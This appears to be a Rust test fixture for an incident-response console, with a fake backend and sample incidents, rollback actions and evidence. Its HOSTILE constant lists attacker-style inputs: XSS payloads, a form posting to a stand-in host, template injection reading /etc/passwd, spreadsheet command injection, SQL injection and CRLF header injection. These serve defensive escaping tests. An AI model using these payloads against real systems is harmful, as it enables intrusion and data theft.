//! A site made of plain data, for tests: every page, and the router with everything before it.

use std::sync::Mutex;

use policies::model::Millis;
use sha2::{Digest, Sha256};

use super::backend::{Backend, Decision, Postmortem, Problem, Reply, Verb};
use super::document::Document;
use super::view::*;

/// The time of every fixture.
pub(crate) const NOW: Millis = Millis(1_780_000_000_000);

/// Text as an attacker would write it.
pub(crate) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "</pre></details><form action=//evil.example method=post>",
    "<!--<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1\">",
    "]]><![CDATA[",
    "{{ 7*7 }} {% include \"/etc/passwd\" %} ${7*7} <%= 7*7 %>",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{202e}evil\u{202c} \u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}\u{2060}\u{ad}",
    "nul\0byte \u{9b}31m \u{85}",
    "=cmd|' /C calc'!A0",
    "javascript:alert(1)",
    "'; DROP TABLE incident; --",
    "line\u{2028}separator\u{2029}",
    "tag\u{e0041}\u{e007f} \u{e000} \u{378}",
    "&lt;already&gt; &#x3c;encoded&#x3e;",
    "a\r\nSet-Cookie: x=y",
];

/// What a fake guard and a fake store answer.
#[derive(Default)]
pub(crate) struct Site {
    pub incidents: Vec<Incident>,
    pub actions: Mutex<Vec<Action>>,
    pub refusal: Mutex<Option<Problem>>,
    pub decisions: Mutex<Vec<Decision>>,
    pub dry_run: Mutex<Option<Problem>>,
    pub bar: BarFacts,
}

impl Backend for Site {
    fn bar(&self) -> Reply<'_, BarFacts> {
        Box::pin(async { Ok(self.bar.clone()) })
    }

    fn inbox<'a>(&'a self, _before: Option<&'a str>, limit: usize) -> Reply<'a, Inbox> {
        let rows: Vec<_> = self.incidents.iter().map(|i| i.row.clone()).collect();
        let next = (rows.len() > limit).then(|| "cursor".to_owned());
        Box::pin(async move {
            Ok(Inbox {
                rows: rows.into_iter().take(limit).collect(),
                next,
            })
        })
    }

    fn incident<'a>(&'a self, id: &'a str) -> Reply<'a, Option<Incident>> {
        let found = self.incidents.iter().find(|i| i.row.id == id).cloned();
        Box::pin(async move { Ok(found) })
    }

    fn postmortem<'a>(&'a self, id: &'a str, form: Postmortem) -> Reply<'a, Option<String>> {
        let found = self
            .incidents
            .iter()
            .any(|i| i.row.id == id && i.postmortem);
        Box::pin(async move { Ok(found.then(|| format!("{form:?}"))) })
    }

    fn actions(&self) -> Reply<'_, Vec<Action>> {
        Box::pin(async { Ok(self.actions.lock().unwrap().clone()) })
    }

    fn action<'a>(&'a self, id: &'a str) -> Reply<'a, Option<Action>> {
        Box::pin(async move {
            let actions = self.actions.lock().unwrap();
            Ok(actions.iter().find(|a| a.id == id).cloned())
        })
    }

    fn dry_run<'a>(&'a self, _document: &'a Document) -> Reply<'a, DryRun> {
        Box::pin(async {
            match self.dry_run.lock().unwrap().clone() {
                Some(problem) => Err(problem),
                None => Ok(dry_run("")),
            }
        })
    }

    fn decide(&self, decision: Decision) -> Reply<'_, ()> {
        Box::pin(async move {
            if let Some(problem) = self.refusal.lock().unwrap().clone() {
                return Err(problem);
            }
            let mut actions = self.actions.lock().unwrap();
            let action = actions.iter_mut().find(|a| a.id == decision.action);
            let action = action.ok_or_else(|| Problem::new("not_found", ""))?;
            match decision.verb {
                Verb::Approve => {
                    action.have += 1;
                    action.state = "approved".to_owned();
                    action.approval_expires_at = Some(NOW.plus(600_000));
                }
                Verb::Deny => action.state = "denied".to_owned(),
                Verb::Revoke => action.state = "revoked".to_owned(),
                Verb::Happened => action.state = "reconciled_succeeded".to_owned(),
                Verb::DidNotHappen => action.state = "reconciled_failed".to_owned(),
            }
            let decisions = &mut action.decisions;
            decisions.push(DecisionRow {
                verb: decision.verb,
                person: decision.person.clone(),
                assurance: "local".to_owned(),
                via: "console".to_owned(),
                at: Some(NOW),
                reason: decision.reason.clone(),
            });
            action.audit_index = Some(813);
            self.decisions.lock().unwrap().push(decision);
            Ok(())
        })
    }

    fn person_of<'a>(&'a self, account: &'a str) -> Reply<'a, Option<String>> {
        Box::pin(async move { Ok(Some(account.to_owned())) })
    }
}

fn cite(evidence: u32, line: Option<u32>) -> Cite {
    Cite { evidence, line }
}

/// An incident with everything on it, whose outside text is `text`.
#[expect(clippy::too_many_lines, reason = "one literal, to be read at once")]
pub(crate) fn incident(number: u32, text: &str) -> Incident {
    let id = format!(
        "inc_{:a>16}",
        data_encoding::BASE32_NOPAD
            .encode(&number.to_be_bytes())
            .to_lowercase()
    );
    Incident {
        row: IncidentRow {
            id: id.clone(),
            title: format!("Checkout answers with errors {text}"),
            service: format!("checkout{}", if text.is_empty() { "" } else { text }),
            severity: "critical".to_owned(),
            state: "awaiting_approval".to_owned(),
            opened_at: NOW.plus(-300_000),
            updated_at: NOW.plus(-2_000),
            closed_at: None,
            cause_class: Some("bad_deploy".to_owned()),
            action: Some(ActionLink {
                id: "act_1".to_owned(),
                state: "pending".to_owned(),
            }),
        },
        alerts: 2,
        progress: None,
        verdict: Some(Verdict {
            cause_class: "bad_deploy".to_owned(),
            culprit: format!("deploy d-118{text}"),
            confidence: "high".to_owned(),
            source: "rules".to_owned(),
            summary: Some(format!(
                "The release 1.8.0 raises in the voucher path. {text}"
            )),
            cites: vec![cite(1, Some(2)), cite(2, None)],
            missing: vec![],
        }),
        suggestion: Suggestion::Act {
            class: "rollback".to_owned(),
            target: format!("checkout{text}"),
            params: vec![Param {
                name: "release".to_owned(),
                now: Some("1.8.0".to_owned()),
                after: format!("1.7.2{text}"),
            }],
            action: Some(ActionLink {
                id: "act_1".to_owned(),
                state: "pending".to_owned(),
            }),
            checks: checks(text),
        },
        recovery: None,
        facts: vec![
            Fact {
                text: format!("Errors of checkout rose from 0.1 % to 38 % at 20:21:40. {text}"),
                cites: vec![cite(1, Some(2))],
            },
            Fact {
                text: "Deploy d-118 of checkout finished 12 s before.".to_owned(),
                cites: vec![cite(2, Some(1))],
            },
        ],
        hypotheses: hypotheses(text),
        timeline: vec![
            Moment {
                at: NOW.plus(-312_000),
                kind: "deploy".to_owned(),
                text: format!("checkout 1.8.0 {text}"),
                who: Some(format!("ci{text}")),
                cites: vec![cite(2, Some(1))],
            },
            Moment {
                at: NOW.plus(-300_000),
                kind: "alert".to_owned(),
                text: "HighErrorRatio fires".to_owned(),
                who: None,
                cites: vec![],
            },
        ],
        evidence: vec![evidence(1, "logs", text), evidence(2, "deploys", text)],
        guardrails: vec![GuardrailRow {
            layer: "redaction".to_owned(),
            code: "redacted".to_owned(),
            rule: format!("email{text}"),
            count: 3,
            evidence: Some(1),
        }],
        failed: vec![FailedTool {
            tool: format!("units {text}"),
            code: "timeout".to_owned(),
        }],
        model_absent: Some(format!("no model is configured {text}")),
        postmortem: true,
    }
}

fn checks(text: &str) -> Vec<Check> {
    vec![Check {
        code: "rollback.release_on_disk".to_owned(),
        passed: true,
        text: format!("The release to go back to is on disk. {text}"),
        cites: vec![cite(2, Some(1))],
    }]
}

fn hypotheses(text: &str) -> Vec<Hypothesis> {
    let hypothesis = |id: &str, chosen| Hypothesis {
        id: id.to_owned(),
        cause_class: "bad_deploy".to_owned(),
        service: "checkout".to_owned(),
        culprit: format!("deploy d-118{text}"),
        score: "0.93".to_owned(),
        chosen,
        explanation: format!("The failing frame is in a line that the deploy changed. {text}"),
        supporting: vec![cite(1, Some(2))],
        refuting: vec![],
        missing: vec![text.to_owned()],
        rejected: (!chosen).then(|| format!("it does not touch the failing path {text}")),
        remedy: "rollback".to_owned(),
    };
    vec![hypothesis("H1", true), hypothesis("H2", false)]
}

fn evidence(id: u32, tool: &str, text: &str) -> EvidenceItem {
    EvidenceItem {
        id,
        tool: tool.to_owned(),
        args: format!("{{\"service\":\"checkout\",\"q\":\"{text}\"}}"),
        source: format!("shop-{tool}{text}"),
        from: NOW.plus(-900_000),
        to: NOW,
        taken_at: NOW.plus(-4_000),
        partial: Some(format!("cut at 2 MB {text}")),
        bytes_read: 48_213,
        bytes_kept: 9_120,
        redactions: vec![("email".to_owned(), 3)],
        removed: 1,
        lines: vec![
            "2026-05-28T20:21:40.250Z INFO checkout-1 order accepted id=1".to_owned(),
            format!("2026-05-28T20:21:40.912Z ERROR checkout-1 KeyError: 'voucher' {text}"),
        ],
    }
}

/// What a dry run says.
pub(crate) fn dry_run(text: &str) -> DryRun {
    DryRun::Seen {
        now: Some(format!("1.8.0{text}")),
        after: Some(format!("1.7.2{text}")),
        effect: format!("The release link is replaced; the supervisor restarts it. {text}"),
        inverse: Some(format!("Roll back checkout from 1.7.2 to 1.8.0{text}")),
    }
}

/// An action in a state.
pub(crate) fn action(id: &str, state: &str, text: &str) -> Action {
    let document = serde_json::json!({
        "action": "rollback",
        "change": {
            "deploy": format!("d-118{text}"), "from": "1.8.0",
            "incident": "inc_aaaaaaaaaaaaaaaa", "to": format!("1.7.2{text}"),
        },
        "target": {"name": "checkout", "namespace": "default"},
        "v": 1,
    })
    .to_string();
    let digest = data_encoding::BASE64URL_NOPAD.encode(&Sha256::digest(document.as_bytes()));
    Action {
        id: id.to_owned(),
        state: state.to_owned(),
        document,
        digest,
        decision_nonce: "bm9uY2Utbm9uY2Utbg".to_owned(),
        requester: "agent/rca".to_owned(),
        initiator: None,
        intent: format!("Put the release before back. {text}"),
        have: 0,
        need: 1,
        decisions: vec![],
        created_at: NOW.plus(-120_000),
        expires_at: Some(NOW.plus(259_080_000)),
        approval_expires_at: None,
        effect_deadline: None,
        jti: None,
        job: None,
        fence: None,
        started: None,
        outcome: None,
        audit_index: Some(812),
        context: ActionContext {
            checks: checks(text),
            ground: hypotheses(text).into_iter().next(),
            cites: vec![cite(2, Some(1))],
            executor: Some(format!(
                "rollback-checkout{text}, which moves the link /srv/current"
            )),
            limit_s: Some(120),
            blast: vec![
                "Runs as checkout-1, checkout-2.".to_owned(),
                format!("Called, directly or through others, by web{text}."),
            ],
            recovery: None,
            recovered: None,
        },
    }
}
